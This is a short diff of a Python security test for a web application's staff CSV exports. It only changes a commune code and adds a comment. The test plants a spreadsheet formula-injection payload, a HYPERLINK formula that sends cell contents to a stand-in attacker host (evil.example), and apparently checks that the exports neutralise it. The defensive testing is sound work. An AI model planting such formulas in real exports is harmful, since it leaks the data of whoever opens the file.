@@ -77,7 +77,7 @@ def test_the_exports_staff_open_carry_no_formula(servers, territories, world):
     from a real Daphne in production mode, as Cnam staff do."""
     server = servers(DEBUG="0", SECRET_KEY=PRODUCTION_SECRET_KEY, ALLOWED_HOSTS="127.0.0.1")
     payload = '=HYPERLINK("http://evil.example/?d="&B2&C2,"Voir")'
-    make_msp(payload, "51454")
+    make_msp(payload, "51504")  # a commune of the transactional tests' territories
     services.submit(world.user("practitioner").practitioner, question(subject=payload))
     staff = world.user("cnam_staff")
     for path in ("/exports/msps.csv", "/accelerator/requests.csv"):
